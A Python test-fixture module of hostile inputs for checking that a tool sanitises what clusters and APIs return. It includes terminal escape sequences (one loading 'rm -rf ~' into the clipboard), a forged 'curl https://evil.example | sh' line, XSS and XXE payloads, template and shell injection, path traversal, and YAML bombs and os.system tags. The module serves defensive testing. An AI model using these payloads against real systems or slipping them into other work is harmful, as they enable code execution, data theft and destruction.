# Copyright: (c) 2026, exomesh contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What a cluster, a server or an API may say that means no good."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Iterator
from typing import Any

PROOF = "exomesh-proof"
"""Name of the file that a text would make, if anybody ran it."""

TEXTS: dict[str, str] = {
    "clears the screen": "a\x1b[2J\x1b[1;1H[OK] all is well",
    "sets the clipboard": "a\x1b]52;c;cm0gLXJmIH4=\x07b",
    "a link to elsewhere": "\x1b]8;;https://evil.example/\x1b\\istio.io\x1b]8;;\x1b\\",
    "asks the terminal": '\x1bP$q"p\x1b\\\x05\x1b[c',
    "C1": "a\x9b31mred\x9d0;title\x9c",
    "overwrites the line": "failed\rok    ",
    "rubs out": "failed\b\b\b\b\b\bok\x7f",
    "NUL": "a\x00b",
    "forges lines": "x\n[ERROR] cluster fra: all is lost\n    next: curl https://evil.example | sh",
    "other line ends": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "right to left": "\u202etxt.exe\u202c \u2066a\u2069 \u200f",
    "nothing to see": "a\u200b\u200d\u2060\ufeff\u00adb\U000e0041",
    "half a character": "a\ud800b",
    "no characters": "\ufffe\uffff\U0010ffff",
    "HTML": "<script>alert(1)</script>\"'><img src=x onerror=alert(1)><!--",
    "an address that runs": "javascript:alert(1)",
    "XML": "]]></failure><!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "a template": "{{ lookup('ansible.builtin.pipe', 'touch " + PROOF + "') }}",
    "a template of statements": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "a command": f"$(touch {PROOF}) `touch {PROOF}`; touch {PROOF} | touch {PROOF} && touch {PROOF}\n",
    "an option": f"--config=/etc/passwd -o {PROOF}",
    "a file for curl": "@/etc/passwd",
    "a folder above": f"../../../../../../tmp/{PROOF}",
    "an absolute path": f"/tmp/{PROOF}",
    "an encoded path": "%2e%2e%2f%2e%2e%2fsecrets",
    "a query": "a?watch=true&x=y#z",
    "metrics": 'a"} 1\nforged_metric{a="\\',
    "a selector": "a=b,c!=d,e in (f)",
    "a regular expression": "(a+)+$[",
    "formats": "%s%n{0.__class__}%(x)s",
    "curl's words": "\n@@exomesh x\n~exomesh~0\t200\t\nexomesh-answer 0 200 0.1 0 \n",
    "long": "A" * 300_000,
    "long and escaped": "\x1b" * 300_000,
    "many lines": "x\n" * 50_000,
}

SHAPES: tuple[Any, ...] = (
    None,
    True,
    0,
    -1,
    1e308,
    "",
    "text",
    [],
    [None],
    [[]],
    ["text"],
    {},
    {"": None},
    {"configs": None},
    {"configs": "text"},
    {"configs": [None, 1, "text", [], {}, {"secret": None, "name": "default"}]},
    {"configs": [{"endpoint_config": None}, {"secret": {"tls_certificate": []}, "name": "default"}]},
    [{"id": None, "syncStatus": {}}],
    [{"Network": [], "Addr": {}, "Port": "x"}],
)
"""Values in places where others belong."""


def _bomb(first: str, each: str) -> str:
    lines = [f"a: &a {first}"]
    for before, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{name}: &{name} " + each.format(",".join([f"*{before}"] * 9)))
    return "\n".join(lines) + "\n"


DOCUMENTS: dict[str, str | bytes] = {
    "aliases of aliases": _bomb("[x,x,x,x,x,x,x,x,x]", "[{}]"),
    "merges of merges": _bomb("{x: 1}", "{{<<: [{}]}}"),
    "one long text often": "a: &a " + "x" * 50_000 + "\nb: [" + ",".join(["*a"] * 50_000) + "]\n",
    "itself": "a: &a [*a]\n",
    "an alias of nothing": "a: *b\n",
    "deep lists": "[" * 1_000_000,
    "deep mappings": "{a: " * 200_000,
    "deep dashes": "- " * 200_000 + "x",
    "deep questions": "? " * 200_000,
    "deep blocks": "\n".join(" " * depth + "a:" for depth in range(2_000)),
    "a number base 60": "a: 1" + ":1" * 500_000,
    "a long number": "a: " + "9" * 1_000_000,
    "no number": "a: .inf\n",
    "a tag that runs": "a: !!python/object/apply:os.system [touch " + PROOF + "]\n",
    "a tag by another name": "%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.system [id]\n",
    "a tag that is none": "a: !!bool maybe\n",
    "binary": "a: !!binary xxxx\n",
    "no text": b"a: \xc3\x28",
    "NUL": "a: \x00\n",
    "half a character": 'a: "\\ud800"\n',
    "a list for a key": "? [a]\n: b\n",
    "two documents": "a: 1\n---\nb: 2\n",
    "too long": "#" * (5 * 1024 * 1024),
    "not closed": "a: [",
}

JSONS: dict[str, str] = {
    "deep lists": "[" * 1_000_000,
    "a little too deep": "[" * 101 + "]" * 101,
    "deep objects": '{"a":' * 200_000,
    "a long number": "9" * 1_000_000,
    "no number": "[NaN, Infinity]",
    "a number without end": "[1e999]",
    "half a character": '["\\ud800"]',
    "a page": "<html><body>Sign in</body></html>",
    "cut off": '{"items": [',
    "nothing": "",
}


_UNSAFE = ("Cc", "Cf", "Cs", "Cn", "Zl", "Zp")


def leaves(value: Any) -> Iterator[str]:
    """Every text in data, and every key."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for name, item in value.items():
            yield from leaves(name)
            yield from leaves(item)
    elif isinstance(value, (list, tuple)):
        for item in value:
            yield from leaves(item)


def assert_safe(value: Any) -> None:
    """Nothing in it is obeyed by a terminal, hides something, or cannot be written."""
    for text in leaves(value):
        text.encode()
        others = set(text) - set("\n\t")
        unsafe = {character for character in others if unicodedata.category(character) in _UNSAFE}
        assert not unsafe, (unsafe, text[:200])
    json.dumps(value, allow_nan=False)
